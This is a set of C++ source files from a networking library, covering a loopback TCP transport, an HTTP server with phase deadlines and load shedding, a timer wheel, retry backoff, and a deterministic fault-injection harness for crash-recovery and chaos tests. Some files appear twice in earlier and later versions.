      // the straggler so the serving loop observes the shutdown.
      if (fd_.load(std::memory_order_acquire) < 0) {
        ::close(client);
        return util::make_error("net.closed", "listener closed");
      }
      const int one = 1;
      ::setsockopt(client, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
      return std::unique_ptr<Connection>(std::make_unique<TcpConnection>(client));
    }
    if (errno == EINTR) continue;
    if (errno == EAGAIN || errno == EWOULDBLOCK)
      return util::make_error("net.would_block", "no pending connection");
    return errno_error("accept");
  }
}

util::Status TcpListener::set_nonblocking() {
  const int fd = fd_.load(std::memory_order_acquire);
  if (fd < 0) return util::make_error("net.closed", "listener closed");
  return fd_set_nonblocking(fd);
}

void TcpListener::close() {
  const util::MutexLock lock(close_mutex_);
  const int fd = fd_.exchange(-1, std::memory_order_acq_rel);
  if (fd >= 0) {
    // Wakes a thread blocked in accept() on most kernels; callers still
    // poke the port afterwards (tcp_connect) for the ones it doesn't.
    ::shutdown(fd, SHUT_RDWR);
    ::close(fd);
  }
}

util::Status TcpListener::with_fd(const std::function<util::Status(int)>& op) {
  const util::MutexLock lock(close_mutex_);
  const int fd = fd_.load(std::memory_order_acquire);
  if (fd < 0) return util::make_error("net.closed", "listener closed");
  return op(fd);
}

util::Result<std::unique_ptr<Connection>> tcp_connect(std::uint16_t port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return errno_error("socket");
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) !=
      0) {
    ::close(fd);
    return errno_error("connect");
  }
  const int one = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return std::unique_ptr<Connection>(std::make_unique<TcpConnection>(fd));
}

}  // namespace w5::net
