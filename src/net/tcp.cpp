#include "net/tcp.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

namespace w5::net {

namespace {

util::Error errno_error(const char* what) {
  return util::make_error("net.io",
                          std::string(what) + ": " + std::strerror(errno));
}

}  // namespace

TcpConnection::~TcpConnection() { TcpConnection::close(); }

util::Result<std::size_t> TcpConnection::read(char* buf, std::size_t max) {
  if (fd_ < 0) return util::make_error("net.closed", "read on closed socket");
  while (true) {
    const ssize_t n = ::recv(fd_, buf, max, 0);
    if (n >= 0) return static_cast<std::size_t>(n);
    if (errno == EINTR) continue;
    if (errno == EAGAIN || errno == EWOULDBLOCK)
      return util::make_error("net.would_block", "no data");
    return errno_error("recv");
  }
}

util::Status TcpConnection::write(std::string_view data) {
  if (fd_ < 0) return util::make_error("net.closed", "write on closed socket");
  while (!data.empty()) {
    const ssize_t n = ::send(fd_, data.data(), data.size(), MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return errno_error("send");
    }
    data.remove_prefix(static_cast<std::size_t>(n));
  }
  return util::ok_status();
}

void TcpConnection::close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

TcpListener::~TcpListener() { close(); }

util::Status TcpListener::listen(std::uint16_t port, int backlog) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return errno_error("socket");
  fd_.store(fd, std::memory_order_release);
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    close();
    return errno_error("bind");
  }
  if (::listen(fd, backlog) != 0) {
    close();
    return errno_error("listen");
  }
  socklen_t len = sizeof(addr);
  if (::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) == 0)
    port_ = ntohs(addr.sin_port);
  return util::ok_status();
}

util::Result<std::unique_ptr<Connection>> TcpListener::accept() {
  const int fd = fd_.load(std::memory_order_acquire);
  if (fd < 0) return util::make_error("net.closed", "listener closed");
  while (true) {
    const int client = ::accept(fd, nullptr, nullptr);
    if (client >= 0) {
      // A concurrent close() may have raced the blocking accept; drop
      // the straggler so the serving loop observes the shutdown.
      if (fd_.load(std::memory_order_acquire) < 0) {
        ::close(client);
        return util::make_error("net.closed", "listener closed");
      }
      const int one = 1;
      ::setsockopt(client, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
      return std::unique_ptr<Connection>(std::make_unique<TcpConnection>(client));
    }
    if (errno == EINTR) continue;
    return errno_error("accept");
  }
}

void TcpListener::close() {
  const int fd = fd_.exchange(-1, std::memory_order_acq_rel);
  if (fd >= 0) {
    // Wakes a thread blocked in accept() on most kernels; callers still
    // poke the port afterwards (tcp_connect) for the ones it doesn't.
    ::shutdown(fd, SHUT_RDWR);
    ::close(fd);
  }
}

util::Result<std::unique_ptr<Connection>> tcp_connect(std::uint16_t port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return errno_error("socket");
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) !=
      0) {
    ::close(fd);
    return errno_error("connect");
  }
  const int one = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return std::unique_ptr<Connection>(std::make_unique<TcpConnection>(fd));
}

}  // namespace w5::net
