// Deterministic fault injection for transports (the chaos harness).
//
// FaultyConnection decorates any Connection and perturbs its I/O
// according to a FaultSchedule: injected delays, short reads, partial
// writes, silent drops, and connection resets. Schedules are either
// scripted (an explicit action list, consumed in op order) or seeded (a
// per-op draw from util::Rng against a probability profile) — both
// replay identically for a fixed script/seed, so every failure a chaos
// test or robustness bench finds is reproducible by re-running with the
// same seed. Delays go through an injected SleepFn, so tests record
// virtual delays instead of actually sleeping.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "net/backoff.h"  // SleepFn
#include "net/transport.h"
#include "util/result.h"
#include "util/rng.h"

namespace w5::net {

enum class FaultKind : std::uint8_t {
  kNone = 0,
  kDelay,         // sleep `delay_micros`, then perform the op normally
  kShortRead,     // read at most `bytes` this call (forces re-assembly)
  kPartialWrite,  // write only `bytes`, then reset the connection
  kDrop,          // write: swallow the bytes; read: report "net.timeout"
  kReset,         // close the underlying transport, report "net.reset"
};

struct FaultAction {
  FaultKind kind = FaultKind::kNone;
  util::Micros delay_micros = 0;  // kDelay
  std::size_t bytes = 1;          // kShortRead / kPartialWrite budget
};

// Per-kind occurrence counts, for error-budget accounting in benches.
struct FaultStats {
  std::atomic<std::uint64_t> delays{0};
  std::atomic<std::uint64_t> short_reads{0};
  std::atomic<std::uint64_t> partial_writes{0};
  std::atomic<std::uint64_t> drops{0};
  std::atomic<std::uint64_t> resets{0};

  std::uint64_t total() const {
    return delays.load() + short_reads.load() + partial_writes.load() +
           drops.load() + resets.load();
  }
};

class FaultSchedule {
 public:
  // Independent probabilities per op; whatever wins the draw first (in
  // the order reset, drop, partial/short, delay) is applied.
  struct Profile {
    double delay_probability = 0.0;
    double short_read_probability = 0.0;
    double partial_write_probability = 0.0;
    double drop_probability = 0.0;
    double reset_probability = 0.0;
    util::Micros min_delay_micros = 100;
    util::Micros max_delay_micros = 1000;
  };

  // No faults, ever (the default-constructed schedule).
  FaultSchedule() = default;

  // Scripted: actions applied to reads/writes in call order; once a list
  // is exhausted the remaining ops run clean.
  static FaultSchedule scripted(std::vector<FaultAction> read_actions,
                                std::vector<FaultAction> write_actions);

  // Seeded: each op draws from the profile using its own rng stream.
  static FaultSchedule seeded(std::uint64_t seed, Profile profile);

  // Consumes and returns the next action for a read or write op.
  FaultAction next_read();
  FaultAction next_write();

 private:
  FaultAction next_scripted(std::vector<FaultAction>& actions,
                            std::size_t& cursor);
  FaultAction draw(bool is_write);

  bool seeded_ = false;
  Profile profile_{};
  util::Rng rng_{0};
  std::vector<FaultAction> read_actions_;
  std::vector<FaultAction> write_actions_;
  std::size_t read_cursor_ = 0;
  std::size_t write_cursor_ = 0;
};

// ---- File I/O faults (DESIGN.md §13) ---------------------------------------
// The durability plane writes its WAL segments and snapshot files through
// FaultyFile so crash-recovery tests can pull the plug deterministically.
// Two fault kinds, mirroring what real storage does:
//
//   - short writes: write(2) persists fewer bytes than asked (seeded, so a
//     fixed seed replays the identical split pattern); the writer's retry
//     loop must reassemble without corrupting the stream.
//   - crash-at-offset: every byte past a global offset N silently
//     vanishes — as a power cut loses the page cache — while calls keep
//     reporting success (the process that "crashed" never learns). fsync
//     becomes a no-op from that point on.
//
// The offset is cumulative across every file sharing the plan (copies
// share state), so one number models "power failed at byte N of the
// durability byte stream" across WAL rotations and snapshot writes.

struct FileFaultProfile {
  double short_write_probability = 0.0;
  std::size_t max_short_write_bytes = 16;  // short writes persist 1..max
};

// Per-plan occurrence counts (shared by copies, like the plan itself).
struct FileFaultStats {
  std::uint64_t short_writes = 0;
  std::uint64_t dropped_bytes = 0;  // bytes swallowed past the crash point
  bool crashed = false;
  bool write_errored = false;  // hit the injected error point
};

class FileFaultPlan {
 public:
  FileFaultPlan();  // no faults, ever

  static FileFaultPlan crash_at(std::uint64_t offset);
  // Unlike a crash (which silently succeeds — the process never learns),
  // an injected error is *reported*: every write at or past the
  // cumulative offset persists up to the offset and then fails, as
  // ENOSPC or a dying disk would. Later writes fail too — a dead disk
  // stays dead.
  static FileFaultPlan error_at(std::uint64_t offset);
  static FileFaultPlan seeded(std::uint64_t seed, FileFaultProfile profile);
  // Seeded short writes AND a crash point, for torn-frame matrices.
  static FileFaultPlan seeded_crash(std::uint64_t seed,
                                    FileFaultProfile profile,
                                    std::uint64_t crash_offset);

  // Consumes one write op: how many of `requested` bytes reach the disk.
  // Advances the cumulative offset by the *requested* size so the crash
  // point is a property of the attempted byte stream, not of the fault
  // pattern (this is what makes offsets enumerable by tests).
  std::size_t admit_write(std::size_t requested);

  bool crashed() const;
  bool write_errored() const;
  FileFaultStats stats() const;

 private:
  struct State;
  std::shared_ptr<State> state_;  // copies share; default state is benign
};

// POSIX file handle that honors a FileFaultPlan. Only the write side is
// perturbed — recovery reads what "survived the crash" verbatim.
class FaultyFile {
 public:
  FaultyFile() = default;
  ~FaultyFile();

  FaultyFile(const FaultyFile&) = delete;
  FaultyFile& operator=(const FaultyFile&) = delete;
  FaultyFile(FaultyFile&& other) noexcept;
  FaultyFile& operator=(FaultyFile&& other) noexcept;

  // Creates (truncating) or opens for append.
  static util::Result<FaultyFile> create(const std::string& path,
                                         FileFaultPlan plan);
  static util::Result<FaultyFile> open_append(const std::string& path,
                                              FileFaultPlan plan);

  // Writes all of `data`, looping over injected short writes. Bytes past
  // the plan's crash point are dropped but reported as written.
  util::Status write_all(std::string_view data);

  // fsync(2); a no-op success after the injected crash (the real fsync
  // would never have been reached).
  util::Status sync();

  bool valid() const { return fd_ >= 0; }
  // Bytes actually persisted to this file (excludes crash-dropped bytes).
  std::uint64_t persisted_bytes() const { return persisted_; }

  void close();

 private:
  static util::Result<FaultyFile> open_with_flags(const std::string& path,
                                                  int flags,
                                                  FileFaultPlan plan);

  int fd_ = -1;
  std::uint64_t persisted_ = 0;
  FileFaultPlan plan_;
};

// The decorator. Owns the wrapped transport; forwards timeouts so a
// faulty TCP connection still honors its deadlines.
class FaultyConnection final : public Connection {
 public:
  // `sleep` services kDelay actions (default: really sleeps); `stats`
  // (optional, caller-owned) tallies every injected fault.
  FaultyConnection(std::unique_ptr<Connection> inner, FaultSchedule schedule,
                   SleepFn sleep = real_sleep(), FaultStats* stats = nullptr);

  util::Result<std::size_t> read(char* buf, std::size_t max) override;
  util::Status write(std::string_view data) override;
  // Event-path writes (DESIGN.md §15): the reactor never calls blocking
  // write(), so the same fault kinds are applied per write_some op —
  // partial-write truncates then resets, drop swallows and reports
  // success, reset closes. writev_some inherits the Connection default
  // (loops write_some), so scatter/gather writes draw faults per chunk.
  util::Result<std::size_t> write_some(std::string_view data) override;
  void close() override;
  bool closed() const override;
  void set_read_timeout(util::Micros timeout) override;
  void set_write_timeout(util::Micros timeout) override;

 private:
  std::unique_ptr<Connection> inner_;
  FaultSchedule schedule_;
  SleepFn sleep_;
  FaultStats* stats_;
};

}  // namespace w5::net
