// Deterministic fault injection for transports (the chaos harness).
//
// FaultyConnection decorates any Connection and perturbs its I/O
// according to a FaultSchedule: injected delays, short reads, partial
// writes, silent drops, and connection resets. Schedules are either
// scripted (an explicit action list, consumed in op order) or seeded (a
// per-op draw from util::Rng against a probability profile) — both
// replay identically for a fixed script/seed, so every failure a chaos
// test or robustness bench finds is reproducible by re-running with the
// same seed. Delays go through an injected SleepFn, so tests record
// virtual delays instead of actually sleeping.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <vector>

#include "net/backoff.h"  // SleepFn
#include "net/transport.h"
#include "util/rng.h"

namespace w5::net {

enum class FaultKind : std::uint8_t {
  kNone = 0,
  kDelay,         // sleep `delay_micros`, then perform the op normally
  kShortRead,     // read at most `bytes` this call (forces re-assembly)
  kPartialWrite,  // write only `bytes`, then reset the connection
  kDrop,          // write: swallow the bytes; read: report "net.timeout"
  kReset,         // close the underlying transport, report "net.reset"
};

struct FaultAction {
  FaultKind kind = FaultKind::kNone;
  util::Micros delay_micros = 0;  // kDelay
  std::size_t bytes = 1;          // kShortRead / kPartialWrite budget
};

// Per-kind occurrence counts, for error-budget accounting in benches.
struct FaultStats {
  std::atomic<std::uint64_t> delays{0};
  std::atomic<std::uint64_t> short_reads{0};
  std::atomic<std::uint64_t> partial_writes{0};
  std::atomic<std::uint64_t> drops{0};
  std::atomic<std::uint64_t> resets{0};

  std::uint64_t total() const {
    return delays.load() + short_reads.load() + partial_writes.load() +
           drops.load() + resets.load();
  }
};

class FaultSchedule {
 public:
  // Independent probabilities per op; whatever wins the draw first (in
  // the order reset, drop, partial/short, delay) is applied.
  struct Profile {
    double delay_probability = 0.0;
    double short_read_probability = 0.0;
    double partial_write_probability = 0.0;
    double drop_probability = 0.0;
    double reset_probability = 0.0;
    util::Micros min_delay_micros = 100;
    util::Micros max_delay_micros = 1000;
  };

  // No faults, ever (the default-constructed schedule).
  FaultSchedule() = default;

  // Scripted: actions applied to reads/writes in call order; once a list
  // is exhausted the remaining ops run clean.
  static FaultSchedule scripted(std::vector<FaultAction> read_actions,
                                std::vector<FaultAction> write_actions);

  // Seeded: each op draws from the profile using its own rng stream.
  static FaultSchedule seeded(std::uint64_t seed, Profile profile);

  // Consumes and returns the next action for a read or write op.
  FaultAction next_read();
  FaultAction next_write();

 private:
  FaultAction next_scripted(std::vector<FaultAction>& actions,
                            std::size_t& cursor);
  FaultAction draw(bool is_write);

  bool seeded_ = false;
  Profile profile_{};
  util::Rng rng_{0};
  std::vector<FaultAction> read_actions_;
  std::vector<FaultAction> write_actions_;
  std::size_t read_cursor_ = 0;
  std::size_t write_cursor_ = 0;
};

// The decorator. Owns the wrapped transport; forwards timeouts so a
// faulty TCP connection still honors its deadlines.
class FaultyConnection final : public Connection {
 public:
  // `sleep` services kDelay actions (default: really sleeps); `stats`
  // (optional, caller-owned) tallies every injected fault.
  FaultyConnection(std::unique_ptr<Connection> inner, FaultSchedule schedule,
                   SleepFn sleep = real_sleep(), FaultStats* stats = nullptr);

  util::Result<std::size_t> read(char* buf, std::size_t max) override;
  util::Status write(std::string_view data) override;
  void close() override;
  bool closed() const override;
  void set_read_timeout(util::Micros timeout) override;
  void set_write_timeout(util::Micros timeout) override;

 private:
  std::unique_ptr<Connection> inner_;
  FaultSchedule schedule_;
  SleepFn sleep_;
  FaultStats* stats_;
};

}  // namespace w5::net
