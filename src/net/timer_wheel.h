// Hashed timer wheel: O(1) schedule/cancel for connection deadlines.
//
// The reactor (event_loop_server.h) arms one deadline per connection —
// header/idle, body, or write — and cancels or re-arms it on every phase
// transition. A heap would pay O(log n) per operation with n in the tens
// of thousands; the wheel pays O(1) by hashing each deadline into a ring
// slot of `granularity` width and sweeping slots as time passes. Each
// loop owns one wheel and touches it only from its own thread — no locks.
//
// Cancellation is the caller's problem by design: schedule() takes an
// opaque key, and expire() hands keys back; a caller that re-armed or
// released a key simply ignores the stale firing (the reactor stamps a
// generation into the key). This keeps cancel truly O(1) — bump the
// generation — with stale entries swept for free when their slot comes up.
#pragma once

#include <cstdint>
#include <vector>

#include "util/clock.h"

namespace w5::net {

class TimerWheel {
 public:
  // `granularity` is the slot width (deadline quantization: a timer can
  // fire up to one slot late, never early); `slots` × granularity is the
  // horizon one ring revolution covers. Deadlines beyond the horizon
  // still work — they stay in their slot across revolutions until their
  // absolute time passes — they just cost one spurious wakeup per lap.
  explicit TimerWheel(util::Micros granularity = 20'000,
                      std::size_t slots = 1024);

  // Registers `key` to fire once `deadline` (absolute micros) passes.
  // `now` anchors the sweep cursor on first use; a deadline at or before
  // the cursor fires on the next sweep rather than a revolution later.
  void schedule(util::Micros now, util::Micros deadline, std::uint64_t key);

  // Sweeps every slot boundary up to `now`, invoking fn(key, deadline)
  // for each entry whose deadline has passed (the deadline lets callers
  // detect stale entries without a cancel map). Entries scheduled for a
  // later ring revolution stay put. fn may schedule() new entries; they
  // are never fired within the same sweep (their deadlines are future).
  template <typename Fn>
  void expire(util::Micros now, Fn&& fn) {
    if (!anchored_) anchor(now);
    while (cursor_time_ + granularity_ <= now) {
      cursor_time_ += granularity_;
      cursor_ = (cursor_ + 1) % slots_.size();
      auto& slot = slots_[cursor_];
      for (std::size_t i = 0; i < slot.size();) {
        if (slot[i].deadline <= now) {
          const Entry fired = slot[i];
          slot[i] = slot.back();
          slot.pop_back();
          --size_;
          fn(fired.key, fired.deadline);
        } else {
          ++i;  // a later revolution
        }
      }
    }
  }

  // Earliest slot boundary holding any entry, as seen from `now` — the
  // epoll timeout hint. Returns -1 when the wheel is empty (sleep until
  // an event). May be earlier than the true next deadline (multi-lap
  // entries cause one spurious wakeup per revolution), never later than
  // the earliest deadline plus one slot.
  util::Micros next_deadline(util::Micros now) const;

  std::size_t size() const noexcept { return size_; }
  bool empty() const noexcept { return size_ == 0; }
  util::Micros granularity() const noexcept { return granularity_; }

 private:
  struct Entry {
    util::Micros deadline;
    std::uint64_t key;
  };

  // Aligns the sweep cursor to the slot boundary at or before `t`.
  void anchor(util::Micros t);

  util::Micros granularity_;
  std::vector<std::vector<Entry>> slots_;
  std::size_t cursor_ = 0;          // slot the sweep has reached
  util::Micros cursor_time_ = 0;    // absolute time of that slot boundary
  bool anchored_ = false;           // lazily snapped to the first caller time
  std::size_t size_ = 0;
};

}  // namespace w5::net
