#include "net/http_server.h"

#include <algorithm>

#include "net/tracing.h"
#include "util/log.h"
#include "util/strings.h"

namespace w5::net {

namespace {

// Deadlines are real time by definition (they reap real stalled
// sockets), so the server reads the wall clock directly rather than
// threading a Clock& through every transport.
util::Micros wall_now() {
  static const util::WallClock clock;
  return clock.now();
}

void count(std::atomic<std::uint64_t>* counter) {
  if (counter != nullptr) counter->fetch_add(1, std::memory_order_relaxed);
}

}  // namespace

util::Status HttpServer::respond(Connection& connection,
                                 const HttpResponse& response) {
  if (options_.write_timeout_micros > 0)
    connection.set_write_timeout(options_.write_timeout_micros);
  return connection.write(response.to_wire());
}

util::Error HttpServer::reap(Connection& connection, bool got_bytes,
                             const Headers& parsed_headers) {
  count(stats_ != nullptr ? &stats_->reaped_total : nullptr);
  count(conn_stats_ != nullptr ? &conn_stats_->timeout_closes_total : nullptr);
  if (got_bytes) {
    // A client mid-request gets told why; a fully idle keep-alive
    // connection is just closed (nothing was asked, nothing is owed).
    // If the stalled request already delivered a valid X-W5-Trace, the
    // 408 echoes it so the caller's trace shows where the hop died.
    HttpResponse timeout = HttpResponse::text(408, "request timeout\n");
    timeout.headers.set("Connection", "close");
    stamp_trace_echo(timeout, parsed_headers);
    (void)respond(connection, timeout);
  }
  connection.close();
  return util::make_error("http.timeout", "client stalled past deadline");
}

util::Result<bool> HttpServer::handle_one(Connection& connection) {
  RequestParser parser(limits_);
  char buf[8192];
  bool got_bytes = false;
  // Connection-plane idle gauge: the connection sits idle until the
  // first byte of a request arrives. The guard unwinds on every exit.
  struct IdleGuard {
    ConnStats* stats;
    bool marked = false;
    void mark() {
      if (stats != nullptr && !marked) {
        stats->idle.fetch_add(1, std::memory_order_relaxed);
        marked = true;
      }
    }
    void unmark() {
      if (stats != nullptr && marked) {
        stats->idle.fetch_sub(1, std::memory_order_relaxed);
        marked = false;
      }
    }
    ~IdleGuard() { unmark(); }
  } idle{conn_stats_};
  idle.mark();
  // Phase deadlines: headers run against header_deadline from the first
  // read attempt; the body phase restarts the clock when headers finish.
  const util::Micros started =
      options_.header_deadline_micros > 0 || options_.body_deadline_micros > 0
          ? wall_now()
          : 0;
  util::Micros body_started = 0;
  while (!parser.complete() && !parser.failed()) {
    const bool in_body = parser.state() == ParseState::kBody;
    if (in_body && body_started == 0) body_started = wall_now();
    const util::Micros deadline = in_body ? options_.body_deadline_micros
                                          : options_.header_deadline_micros;
    if (deadline > 0) {
      const util::Micros phase_start = in_body ? body_started : started;
      const util::Micros remaining = deadline - (wall_now() - phase_start);
      if (remaining <= 0) {
        count(stats_ != nullptr ? &stats_->timeouts_total : nullptr);
        return reap(connection, got_bytes, parser.parsed_headers());
      }
      // One poll(2) until the phase deadline itself: the transport wakes
      // when bytes arrive or the remaining budget elapses, so an idle
      // keep-alive connection costs zero wakeups between requests
      // (previously this clamped to io_poll_micros and busy-woke every
      // 50 ms to re-check a deadline that could not have moved).
      connection.set_read_timeout(std::max<util::Micros>(remaining, 1));
    }
    auto n = connection.read(buf, sizeof(buf));
    if (!n.ok()) {
      if (n.error().code == "net.timeout") {
        // A poll slice elapsing is not a timeout event — the deadline
        // loop above decides; only a terminal timeout counts.
        if (deadline > 0) continue;
        // No deadline configured but the transport timed out anyway
        // (e.g. an injected drop): nothing further will arrive.
        count(stats_ != nullptr ? &stats_->timeouts_total : nullptr);
        return reap(connection, got_bytes, parser.parsed_headers());
      }
      if (n.error().code == "net.would_block") {
        if (!got_bytes) return false;  // idle connection, nothing to do
        // Partial request with no more bytes available: with a
        // single-threaded in-memory transport this cannot resolve.
        HttpResponse incomplete =
            HttpResponse::text(400, "incomplete request\n");
        stamp_trace_echo(incomplete, parser.parsed_headers());
        (void)respond(connection, incomplete);
        connection.close();
        return util::make_error("http.incomplete", "request truncated");
      }
      return n.error();
    }
    if (n.value() == 0) {
      if (!got_bytes) return false;  // clean EOF between requests
      HttpResponse truncated = HttpResponse::text(400, "truncated request\n");
      stamp_trace_echo(truncated, parser.parsed_headers());
      (void)respond(connection, truncated);
      connection.close();
      return util::make_error("http.incomplete", "EOF mid-request");
    }
    got_bytes = true;
    idle.unmark();
    parser.feed(std::string_view(buf, n.value()));
  }

  if (parser.failed()) {
    // 431: header block over budget; 413: declared body over budget;
    // anything else is a plain parse failure.
    int status = 400;
    if (parser.error().code == "http.too_large") {
      status = 413;
      count(stats_ != nullptr ? &stats_->rejected_413_total : nullptr);
    } else if (parser.error().code == "http.headers_too_large") {
      status = 431;
      count(stats_ != nullptr ? &stats_->rejected_431_total : nullptr);
    }
    HttpResponse rejected =
        HttpResponse::text(status, parser.error().code + "\n");
    stamp_trace_echo(rejected, parser.parsed_headers());
    (void)respond(connection, rejected);
    connection.close();
    return parser.error();
  }

  HttpRequest request = parser.take();
  const bool keep_alive =
      !util::iequals(request.headers.get("Connection").value_or(""), "close");
  HttpResponse response = handler_(request);
  if (!keep_alive) response.headers.set("Connection", "close");
  if (auto written = respond(connection, response); !written.ok()) {
    if (written.error().code == "net.timeout") {
      // The receiver never drained its side; reap rather than block the
      // worker behind a full send buffer.
      count(stats_ != nullptr ? &stats_->timeouts_total : nullptr);
      count(stats_ != nullptr ? &stats_->reaped_total : nullptr);
      connection.close();
    }
    return written.error();
  }
  count(stats_ != nullptr ? &stats_->handled_total : nullptr);
  if (!keep_alive) connection.close();
  return true;
}

std::size_t HttpServer::serve(Connection& connection) {
  std::size_t handled = 0;
  while (!connection.closed()) {
    auto result = handle_one(connection);
    if (!result.ok() || !result.value()) break;
    ++handled;
  }
  return handled;
}

std::size_t PooledHttpServer::serve(TcpListener& listener) {
  std::size_t dispatched = 0;
  while (true) {
    auto accepted = listener.accept();
    if (!accepted.ok()) break;  // listener closed or fatal accept error
    // shared_ptr: std::function requires a copyable closure.
    std::shared_ptr<Connection> connection = std::move(accepted).value();
    if (conn_stats_ != nullptr) {
      conn_stats_->accepted_total.fetch_add(1, std::memory_order_relaxed);
      conn_stats_->open.fetch_add(1, std::memory_order_relaxed);
    }
    if (!executor_([this, connection] {
          server_.serve(*connection);
          if (conn_stats_ != nullptr)
            conn_stats_->open.fetch_sub(1, std::memory_order_relaxed);
        })) {
      // Load shed: tell the client to come back rather than queueing
      // without bound. Sent on the accept thread — cheap by design (the
      // whole point is that workers are busy).
      if (stats_ != nullptr)
        stats_->shed_total.fetch_add(1, std::memory_order_relaxed);
      HttpResponse shed = HttpResponse::text(503, "overloaded, retry later\n");
      shed.headers.set("Retry-After",
                       std::to_string(options_.retry_after_seconds));
      shed.headers.set("Connection", "close");
      if (options_.write_timeout_micros > 0)
        connection->set_write_timeout(options_.write_timeout_micros);
      (void)connection->write(shed.to_wire());
      connection->close();
      if (conn_stats_ != nullptr)
        conn_stats_->open.fetch_sub(1, std::memory_order_relaxed);
      continue;
    }
    ++dispatched;
  }
  return dispatched;
}

}  // namespace w5::net
