#include "net/http_server.h"

#include "util/log.h"
#include "util/strings.h"

namespace w5::net {

util::Status HttpServer::respond(Connection& connection,
                                 const HttpResponse& response) {
  return connection.write(response.to_wire());
}

util::Result<bool> HttpServer::handle_one(Connection& connection) {
  RequestParser parser(limits_);
  char buf[8192];
  bool got_bytes = false;
  while (!parser.complete() && !parser.failed()) {
    auto n = connection.read(buf, sizeof(buf));
    if (!n.ok()) {
      if (n.error().code == "net.would_block") {
        if (!got_bytes) return false;  // idle connection, nothing to do
        // Partial request with no more bytes available: with a
        // single-threaded in-memory transport this cannot resolve.
        (void)respond(connection, HttpResponse::text(400, "incomplete request\n"));
        connection.close();
        return util::make_error("http.incomplete", "request truncated");
      }
      return n.error();
    }
    if (n.value() == 0) {
      if (!got_bytes) return false;  // clean EOF between requests
      (void)respond(connection, HttpResponse::text(400, "truncated request\n"));
      connection.close();
      return util::make_error("http.incomplete", "EOF mid-request");
    }
    got_bytes = true;
    parser.feed(std::string_view(buf, n.value()));
  }

  if (parser.failed()) {
    const int status = parser.error().code == "http.too_large" ? 413 : 400;
    (void)respond(connection,
                  HttpResponse::text(status, parser.error().code + "\n"));
    connection.close();
    return parser.error();
  }

  HttpRequest request = parser.take();
  const bool keep_alive =
      !util::iequals(request.headers.get("Connection").value_or(""), "close");
  HttpResponse response = handler_(request);
  if (!keep_alive) response.headers.set("Connection", "close");
  if (auto written = respond(connection, response); !written.ok())
    return written.error();
  if (!keep_alive) connection.close();
  return true;
}

std::size_t HttpServer::serve(Connection& connection) {
  std::size_t handled = 0;
  while (!connection.closed()) {
    auto result = handle_one(connection);
    if (!result.ok() || !result.value()) break;
    ++handled;
  }
  return handled;
}

std::size_t PooledHttpServer::serve(TcpListener& listener) {
  std::size_t dispatched = 0;
  while (true) {
    auto accepted = listener.accept();
    if (!accepted.ok()) break;  // listener closed or fatal accept error
    // shared_ptr: std::function requires a copyable closure.
    std::shared_ptr<Connection> connection = std::move(accepted).value();
    executor_([this, connection] { server_.serve(*connection); });
    ++dispatched;
  }
  return dispatched;
}

}  // namespace w5::net
