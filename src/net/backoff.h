// Retry with exponential backoff + decorrelating jitter.
//
// One policy type shared by the HTTP client, the federation sync path,
// and the chaos suite. Delays are derived from a seeded util::Rng, so a
// fixed seed reproduces the exact retry timeline — the fault-injection
// harness depends on that determinism. Sleeping is injected (SleepFn):
// production callers pass a real sleeper, tests pass a recorder, and the
// in-memory transports pass a no-op.
#pragma once

#include <cstdint>
#include <functional>

#include "util/clock.h"
#include "util/result.h"
#include "util/rng.h"

namespace w5::net {

// How a caller waits out a backoff delay. Deliberately a plain function
// so tests can observe the exact delays chosen instead of sleeping.
using SleepFn = std::function<void(util::Micros)>;

// Actually sleeps the calling thread (std::this_thread::sleep_for).
SleepFn real_sleep();
// Does nothing; for single-threaded in-memory transports where a retry
// can proceed immediately.
SleepFn no_sleep();

struct RetryPolicy {
  int max_attempts = 3;                       // total tries, not re-tries
  util::Micros initial_backoff = 10'000;      // before the 2nd attempt
  double multiplier = 2.0;                    // exponential growth
  util::Micros max_backoff = 1'000'000;       // growth ceiling
  double jitter = 0.2;                        // ± fraction of the delay
  std::uint64_t seed = 0x5757575757575757ULL; // jitter determinism
};

// Delay sequence for one logical operation's retries. next_delay() is
// called after the Nth failure and returns how long to wait before
// attempt N+1; exhausted() turns true once max_attempts have been used.
class Backoff {
 public:
  explicit Backoff(const RetryPolicy& policy);

  bool exhausted() const noexcept { return attempts_ >= policy_.max_attempts; }
  int attempts() const noexcept { return attempts_; }

  // Records a failed attempt and returns the jittered delay to wait
  // before the next one (0 when exhausted — nothing left to wait for).
  util::Micros next_delay();

 private:
  RetryPolicy policy_;
  util::Rng rng_;
  int attempts_ = 0;
  util::Micros current_ = 0;  // un-jittered exponential term
};

// Transport-level failures worth retrying: the peer may come back. Parse
// errors, policy denials, and clean HTTP error statuses are not — the
// same request would fail the same way.
bool retryable_error(const util::Error& error);

}  // namespace w5::net
