#include "net/fault.h"

#include <fcntl.h>
